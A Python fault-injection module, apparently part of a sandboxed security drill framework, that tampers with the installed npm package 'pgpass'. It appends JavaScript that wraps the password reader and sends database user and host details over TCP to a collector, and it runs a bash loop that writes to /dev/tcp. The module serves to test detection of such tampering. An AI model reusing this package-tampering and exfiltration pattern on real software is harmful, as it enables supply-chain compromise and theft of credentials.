"""Faults of packages: one that the platform installed is changed on the disk."""

from __future__ import annotations

from drillbook.drills.hosts import PATIENCE_S, REQUEST_S, InjectionFailed, run, spawn
from drillbook.sandboxes.sandbox import Sandbox
from smartbeak_drills.collector import CHECKED, PORT
from smartbeak_drills.injections import client
from smartbeak_drills.places import APP, CHECKOUT, CONFIG, MIGRATE_CHECK, OPERATOR, RELEASE

PACKAGE = "pgpass"
"""Reads the password of the database for the migrations: what an intruder would change."""

# Node looks for packages where the file really is: what is not changed may be a link.
_INSTALL = f"""
mkdir --parents {RELEASE}/node_modules
cp --recursive --no-preserve=mode {CHECKOUT}/package.json {CHECKOUT}/package-lock.json \\
  {CHECKOUT}/scripts {CHECKOUT}/migrations {RELEASE}
ln --symbolic /opt/node_modules/* {RELEASE}/node_modules
rm {RELEASE}/node_modules/{PACKAGE}
cp --recursive --no-preserve=mode,ownership /opt/node_modules/{PACKAGE} {RELEASE}/node_modules
cat >>{RELEASE}/node_modules/{PACKAGE}/lib/index.js
"""

_CHANGE = f"""
const asked = module.exports;
module.exports = function (info, done) {{
    asked(info, function (password) {{
        require('net').connect({PORT}, '{APP}', function () {{
            this.end(info.user + '@' + info.host + '\\n');
        }}).on('error', function () {{}});
        done(password);
    }});
}};
module.exports.warnTo = asked.warnTo;
"""

_CHECK = f"""
cd {RELEASE}
export CONTROL_PLANE_DB=$(sed --quiet 's/^CONTROL_PLANE_DB=//p' {CONFIG})
echo started
while sleep 1; do
  node scripts/migrate.mjs status >/dev/null 2>/tmp/migrate-check.log &&
    echo {CHECKED} >/dev/tcp/{APP}/{PORT}
done
"""


def change(sandbox: Sandbox) -> None:
    """Changes a package of a release's checkout, which a pipeline then uses again and again."""
    client.start(sandbox, "collector", "collector", what="nobody listens on app")
    run(sandbox, OPERATOR, "bash", "-euc", _INSTALL, given=_CHANGE)
    argv = ["bash", "-c", _CHECK, MIGRATE_CHECK]
    spawn(sandbox, OPERATOR, "migrate-check", argv, what="nobody uses the release")
    said = sandbox.host(APP).request("read", timeout_s=PATIENCE_S + REQUEST_S, name="collector")
    if said["line"] != "got":
        raise InjectionFailed("the changed package sent nothing")
